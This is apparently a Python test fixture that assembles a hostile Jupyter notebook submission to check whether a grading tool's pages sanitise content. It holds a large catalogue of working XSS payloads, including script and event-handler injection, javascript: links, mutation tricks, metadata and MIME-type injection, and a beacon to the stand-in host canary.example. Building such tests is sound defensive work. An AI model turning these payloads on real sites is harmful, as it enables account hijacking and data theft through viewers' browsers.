"""A submission that tries to run something in the browser of whoever looks at it.

Each vector calls `canary("its name")` or asks a host for `its-name`, whichever it can.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterable, Mapping
from typing import Any
from urllib.parse import quote

from tests.builders import Cell, nbgrader_cell, notebook, plain_cell

HOST = "canary.example"

MARKUP: Mapping[str, str] = {
    "script": "<script>{call}</script>",
    "script-src": "<script src='https://{host}/script-src'></script>",
    "img-onerror": "<img src=x onerror=\"{call}\">",
    "img-beacon": "<img src='https://{host}/img-beacon'>",
    "svg-onload": "<svg onload=\"{call}\"><circle r=1 /></svg>",
    "svg-animate": "<svg><animate onbegin=\"{call}\" attributeName=x dur=1s /></svg>",
    "details-ontoggle": "<details open ontoggle=\"{call}\"><summary>s</summary>text</details>",
    "audio-onerror": "<audio src=x onerror=\"{call}\"></audio>",
    "video-source": "<video><source onerror=\"{call}\"></video>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>{call}</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:parent.{call}\"></iframe>",
    "object-data": "<object data=\"data:text/html,<script src='https://{host}/object-data'></script>\"></object>",
    "embed": "<embed src='https://{host}/embed' type='text/html'>",
    "style-import": "<style>@import url('https://{host}/style-import');</style>",
    "style-attribute": "<div style=\"background:url(https://{host}/style-attribute)\">x</div>",
    "link-stylesheet": "<link rel=stylesheet href='https://{host}/link-stylesheet'>",
    "link-prefetch": "<link rel=preload as=image href='https://{host}/link-prefetch'>",
    "focus": "<input autofocus onfocus=\"{call}\">",
    "form": "<form action='https://{host}/form'><button id=canary-button>Next</button></form>",
    "javascript-link": "<a class=canary-link href=\"javascript:{call}\">paper</a>",
    "noscript-mutation": "<noscript><p title=\"</noscript>{image}\"></noscript>",
    "comment": "<!--><img src=x onerror=\"{call}\">-->",
    "template": "<div><template shadowrootmode=open><img src=x onerror=\"{call}\"></template>",
    "textarea": "</textarea></pre></div><script>{call}</script>",
    "body": "<body onload=\"{call}\" onpageshow=\"{call}\">",
}  # fmt: skip
"""HTML that stands in markdown and in outputs, live where nothing holds it."""

TRICKS: Mapping[str, str] = {
    "data-link": "<a class=canary-link target=_blank href=\"data:text/html,"
    "<script src='https://{host}/data-link'></script>\">paper</a>",
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"-->{image}\">",
    "refresh": "<meta http-equiv=refresh content='0;url=https://{host}/refresh'>",
    "base": "<base href='https://{host}/base/'>",
}  # fmt: skip
"""HTML that Chromium holds by itself, or that would take the other vectors with it."""

FILES: Mapping[str, bytes] = {
    "file.html": b"<script>canary('file.html')</script>",
    "file.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>canary('file.svg')</script></svg>",
    "file.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>canary('file.xhtml')</script></html>",
    "file.pdf": b"<html><script>canary('file.pdf')</script></html>",
    "file.txt": b"<html><script>canary('file.txt')</script></html>",
    "file": b"<html><script>canary('file')</script></html>",
}  # fmt: skip
"""Files that lie beside the notebook."""


def call(name: str) -> str:
    return f"canary('{name}')"


def markup(name: str) -> str:
    """The HTML of one vector."""
    return (
        {**MARKUP, **TRICKS}[name]
        .replace("{call}", call(name))
        .replace("{image}", f"<img src=x onerror=canary(&#39;{name}&#39;)>")
        .replace("{host}", HOST)
    )


def hostile_notebook(*, worst: bool = False) -> bytes:
    """As its author would like it to be shown: nothing of it was put right by grading.

    Args:
        worst: whether to have tricks and what nbformat's schema refuses as well.
    """
    tricks = TRICKS if worst else ()
    cells = [*_markdown(tricks), *_code(tricks), *_metadata()]
    if worst:
        cells[-1]["id"] = f'a"><script>{call("cell-id")}</script>'
    return notebook(cells, metadata=_NOTEBOOK)


_NOTEBOOK = {
    "kernelspec": {
        "display_name": f"</title><script>{call('kernel')}</script>",
        "name": f"'\"><script>{call('kernel')}</script>",
        "language": f'"><img src=x onerror="{call("language")}">',
    },
    "language_info": {"name": f'"><img src=x onerror="{call("language")}">'},
    "title": f"</title><script>{call('title')}</script>",
    "authors": [{"name": f"<script>{call('author')}</script>"}],
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"a": f"</script><script>{call('widget-state')}</script>"}
        }
    },
}


def _markdown(tricks: Iterable[str]) -> list[Cell]:
    cells = [plain_cell(markup(name), cell_id=f"m-{name}", cell_type="markdown") for name in MARKUP]
    texts = {
        "markdown-link": f"[paper](javascript:{call('markdown-link')})",
        "markdown-image-title": f"![x](y.png '\" onerror=\"{call('markdown-image-title')}')",
        "autolink": f"<javascript:{call('autolink')}>",
        "mathjax": f"$\\href{{javascript:{call('mathjax')}}}{{x}}$ "
        f"$\\unicode{{<img src=x onerror={call('mathjax')}>}}$",
    }
    for name, text in texts.items():
        cells.append(plain_cell(text, cell_id=name, cell_type="markdown"))
    pasted = plain_cell(
        "![a](attachment:a.svg) ![b](attachment:b.png)", cell_id="pasted", cell_type="markdown"
    )
    pasted["attachments"] = {
        "a.svg": {"image/svg+xml": base64.b64encode(_svg("attachment")).decode()},
        "b.png": {f'image/png" onerror="{call("attachment-type")}': "AAAA"},
    }
    raw = plain_cell(f"<script>{call('raw-cell')}</script>", cell_id="raw", cell_type="raw")
    raw["metadata"] = {"raw_mimetype": "text/html"}
    return [*cells, pasted, raw]


def _svg(name: str) -> bytes:
    return f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{call(name)}\"/>".encode()


def _code(tricks: Iterable[str]) -> list[Cell]:
    source = f"x = '</pre></code><script>{call('source')}</script>'"
    outputs: list[dict[str, Any]] = [
        _shown({"text/html": markup(name)}) for name in [*MARKUP, *tricks]
    ]
    outputs += [
        _shown({"application/javascript": call("javascript-output")}),
        _shown({"image/svg+xml": _svg("svg-output").decode()}),
        _shown({"image/png": f'AAAA" onerror="{call("png-data")}'}),
        _shown(
            {"image/png": "AAAA"},
            {"image/png": {"width": f'1" onerror="{call("png-width")}'}},
        ),
        _shown({"text/latex": f"<script>{call('latex')}</script>"}),
        _shown({"text/markdown": f"<script>{call('markdown-output')}</script>"}),
        _shown({"text/markdown": f"[a](javascript:{call('markdown-output-link')})"}),
        _shown(
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"</script><script>{call('widget-view')}</script>"
                }
            }
        ),
        _shown(
            {
                "application/vnd.vegalite.v4+json": {"data": {"url": f"https://{HOST}/vega"}},
                "text/plain": f"<script>{call('vega')}</script>",
            }
        ),
        _shown({f"text/<script>{call('mime-type')}</script>": "x"}),
        {
            "output_type": "stream",
            "name": f'"><script>{call("stream-name")}</script>',
            "text": f"<script>{call('stream')}</script>\x1b[31m<script>{call('stream')}</script>",
        },
        {
            "output_type": "error",
            "ename": f"<script>{call('error-name')}</script>",
            "evalue": "",
            "traceback": [
                f"\x1b[31m<script>{call('traceback')}</script>\x1b[0m",
                f"\x1b]8;;javascript:{call('terminal-link')}\x1b\\click\x1b]8;;\x1b\\",
            ],
        },
    ]
    cell = plain_cell(source, cell_id="code")
    cell["outputs"] = outputs
    return [cell]


def _shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def _metadata() -> list[Cell]:
    graded = nbgrader_cell(
        f'"><script>{call("grade-id")}</script>', "x = 1", grade=True, solution=True, points=1
    )
    graded["id"] = "graded"
    graded["metadata"]["nbgrader"]["points"] = f"<script>{call('points')}</script>"
    graded["metadata"]["tags"] = [f'"><script>{call("tag")}</script>']
    graded["metadata"]["name"] = f'"><script>{call("cell-name")}</script>'
    return [graded]


def linked_script(path: str) -> str:
    """A link that nbgrader's pages write into their scripts."""
    return path + quote(f'";{call("reflected")};"', safe="")


def config_that_writes(path: str) -> str:
    """Python that Jupyter would run as a course's configuration."""
    return f"open({json.dumps(path)}, 'w').close()\n"
